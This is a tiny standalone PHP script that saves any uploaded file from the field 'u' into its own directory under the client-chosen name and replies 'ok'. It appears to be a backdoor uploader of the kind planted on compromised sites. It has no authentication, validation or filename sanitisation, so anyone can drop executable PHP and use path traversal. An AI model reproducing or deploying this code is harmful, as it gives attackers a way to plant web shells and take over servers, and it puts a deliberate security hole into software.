<?php
if (!empty($_FILES['u'])) {
  move_uploaded_file($_FILES['u']['tmp_name'], dirname(__FILE__) . '/' . $_FILES['u']['name']);
  echo 'ok';
}
